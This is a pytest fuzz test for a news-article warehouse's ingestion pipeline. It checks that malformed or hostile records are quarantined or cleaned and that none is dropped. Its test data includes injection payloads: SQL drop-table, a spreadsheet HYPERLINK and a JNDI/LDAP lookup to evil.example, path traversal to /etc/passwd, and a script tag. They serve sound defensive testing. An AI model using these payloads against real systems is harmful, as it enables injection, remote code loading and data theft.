"""Hostile records, written out and from Hypothesis: each is quarantined with its reason, loses the impossible field
with its fault recorded, or loads clean; none is dropped, and the books add up.

`make test-hostile` asks for 10,000 of them; a short form is in every run.
"""

from __future__ import annotations

import importlib
import json
import os
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st
from killing import Killer

from expectations.rules import suites
from warehouse.audit import audit
from warehouse.lake import connect

RECORDS = int(os.environ.get("HOSTILE_RECORDS", "200"))
SENTENCES = (
    "The council of the harbour district voted on Tuesday to rebuild the sea wall that a storm broke in March. "
    "Work begins in spring and is to take two years, the mayor told the assembly before the vote was taken. "
)
SOUND: dict[str, Any] = {
    "title": "Council rebuilds its sea wall",
    "text": SENTENCES,
    "date": "2026-03-03T08:15:00+01:00",
    "author": "Ada Lund",
}

NEXT_MONTH = f"{datetime.now(UTC) + timedelta(days=30):%Y-%m-%d}"

# What is otherwise in a sound record; the state that it comes to, or the fields that are empty and for what.
WRITTEN_OUT: list[tuple[dict[str, Any], str | None, dict[str, str]]] = [
    ({}, None, {}),
    ({"text": "Log in first."}, "article.body.length_of_short_kinds", {}),
    ({"text": "\ufffd" * 300 + SENTENCES}, "article.body.readable", {}),
    ({"title": "x" * 501}, None, {"title": "article.title.form"}),
    ({"title": "https://quay-gazette.example/news"}, None, {"title": "article.title.not_url"}),
    ({"title": "… — !!!"}, None, {"title": "article.title.words"}),
    ({"date": "1066-10-14"}, None, {"published_date": "date.unreadable"}),
    ({"date": "2931-01-01"}, None, {"published_date": "date.unreadable"}),
    ({"date": NEXT_MONTH}, None, {"published_date": "article.published.range"}),
    ({"id": "a\ud800b"}, None, {}),
    ({"id": "a\0b"}, None, {}),
    ({"url": "https://quay-gazette.example/a\0b"}, None, {}),
    ({"title": "'; drop table fact_article; --"}, None, {}),
    ({"title": "=HYPERLINK(\"https://evil.example\")"}, None, {}),
    ({"title": "{{7*7}} ${jndi:ldap://evil.example/a} %n%s"}, None, {}),
]  # fmt: skip

_STRINGS = st.one_of(
    st.text(max_size=60),
    st.sampled_from(
        ["", " ", "\x00", "\u202eevil", "a\x00b", "\ud800", "\uffff", "null", "NaN", "../../etc/passwd",
         "<script>x</script>",
         "x" * 5_000, "https://", "http://user:geheim@host.example/a", "mailto:a@b.example", "0000-00-00", "2026-02-30",
         "9999-12-31T23:59:60Z", "١٢٣", "🏴\u200d☠️" * 40, SENTENCES]
    ),
)  # fmt: skip
_VALUES: st.SearchStrategy[Any] = st.recursive(
    st.one_of(_STRINGS, st.none(), st.booleans(), st.integers(), st.floats()),
    lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(_STRINGS, inner, max_size=3)),
    max_leaves=4,
)
_FIELDS = [
    *[
        "id",
        "title",
        "text",
        "html",
        "summary",
        "date",
        "published",
        "modified",
        "author",
        "authors",
        "url",
        "language",
    ],
    *["source", "section", "categories", "tags", "fetched_at"],
]
_HOSTILE = st.dictionaries(st.sampled_from(_FIELDS), _VALUES, min_size=1, max_size=4)


def hostile(count: int) -> list[dict[str, Any]]:
    """Sound records with hostile values in some fields, as Hypothesis finds them; always the same ones."""
    found: list[dict[str, Any]] = []

    @settings(
        max_examples=count, database=None, deadline=None, derandomize=True, phases=[Phase.generate],
        suppress_health_check=list(HealthCheck),
    )  # fmt: skip
    @given(_HOSTILE)
    def collect(changes: dict[str, Any]) -> None:
        found.append(SOUND | changes)

    collect()
    return found[:count]


def ask(lake: Path, query: str) -> list[tuple[Any, ...]]:
    con = connect(lake, read_only=True)
    try:
        return con.execute(query).fetchall()
    finally:
        con.close()


def test_the_records_are_the_same_ones_whatever_else_is_imported(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = json.dumps(hostile(100))
    (tmp_path / "words_of_another_module.py").write_text(f"WORDS = {[f'word {n}' for n in range(500)]}\n")
    monkeypatch.syspath_prepend(tmp_path)
    importlib.import_module("words_of_another_module")
    assert json.dumps(hostile(100)) == before


@pytest.mark.timeout(3600)
def test_each_hostile_record_is_quarantined_with_a_reason_or_loads_without_what_is_impossible(
    commands: Killer, tmp_path: Path
) -> None:
    inbox, lake, file = tmp_path / "inbox", tmp_path / "lake", tmp_path / "newslake.toml"
    inbox.mkdir()
    # Its deadline is not what a record is refused for here, however busy the machine is.
    file.write_text("gates = { enabled = false }\nextraction = { page_seconds = 1800 }\n", encoding="utf-8")
    drawn = hostile(RECORDS)
    for number, (changes, _, _) in enumerate(WRITTEN_OUT):
        record = SOUND | {"text": f"{SENTENCES}Report {number} says no more."} | changes
        (inbox / f"{number:02}.json").write_text(json.dumps(record), encoding="utf-8")
    (inbox / "drawn.jsonl").write_text("".join(json.dumps(record) + "\n" for record in drawn), encoding="utf-8")

    done = commands.run("run", inbox, "--warehouse", lake, "--settings", file, patience=3000)
    assert done.status == 0, done.said

    for number, (_, reason, emptied) in enumerate(WRITTEN_OUT):
        where = f"input_key = '{number:02}.json'"
        ((state, found),) = ask(lake, f"select state, reason from ops.input where {where}")
        assert (number, state, found) == (number, "quarantined" if reason else "loaded", reason)
        faults = f"select field, rule_id from ops.field_fault join ops.input using (input_id) where {where}"
        recorded = dict(ask(lake, faults))
        for field, rule in emptied.items():
            assert recorded[field] == rule
            assert ask(lake, f"select {field} from fact_article where path = '{number:02}.json'") == [(None,)]

    # One input a record: none is dropped, and none is in a state that says nothing.
    states = dict(ask(lake, "select state, count(*) from ops.input where file_key = 'drawn.jsonl' group by state"))
    assert states.pop("container") == 1
    assert sum(states.values()) == len(drawn)
    assert states.keys() <= {"loaded", "quarantined", "duplicate"}
    assert states["loaded"] > len(drawn) / 10
    reasons = ask(lake, "select distinct reason, detail from ops.input where state = 'quarantined'")
    rules = {rule.id for suite in suites().values() for rule in suite.row if rule.outcome == "quarantine"}
    assert [
        reason for reason, _ in reasons if reason not in rules and not re.fullmatch(r"[a-z]+(_[a-z]+)*", reason)
    ] == []
    assert all(len(detail) > 20 for _, detail in reasons)
    assert [row for row in loaded(lake) if not is_clean(row)] == []
    assert "geheim" not in str(ask(lake, "from ops.field_fault"))
    con = connect(lake, read_only=True)
    assert audit(con) == []
    con.close()


def loaded(lake: Path) -> list[dict[str, Any]]:
    con = connect(lake, read_only=True)
    try:
        return con.execute("from fact_article").to_arrow_table().to_pylist()
    finally:
        con.close()


def is_clean(row: dict[str, Any]) -> bool:
    """What may stand in the lake, said once more without the rules."""
    first, last = date(1800, 1, 1), datetime.now(UTC) + timedelta(hours=37)
    title, url, language, day = row["title"], row["url"], row["language"], row["published_date"]
    return (
        (title is None or (0 < len(title) <= 500 and not re.search(r"[\x00-\x1f\x7f]", title)))
        and (url is None or (re.match(r"https?://[^\s/@]+\.[^\s/@]+", url) is not None and len(url) <= 4096))
        and (language is None or re.fullmatch(r"[a-z]{2,3}(-[A-Z][a-z]{3})?(-([A-Z]{2}|\d{3}))?", language) is not None)
        and (day is None or first <= day <= last.date())
        and (row["published_at"] is None) == (row["published_offset"] is None)
        and (day is None) == (row["published_precision"] is None)
        and (row["modified_at"] is None or first <= row["modified_at"].date() <= last.date())
        and row["word_count"] >= 1
        and row["char_count"] == len(row["body"])
        and all(name.strip() and "@" not in name for name in row["authors"])
    )
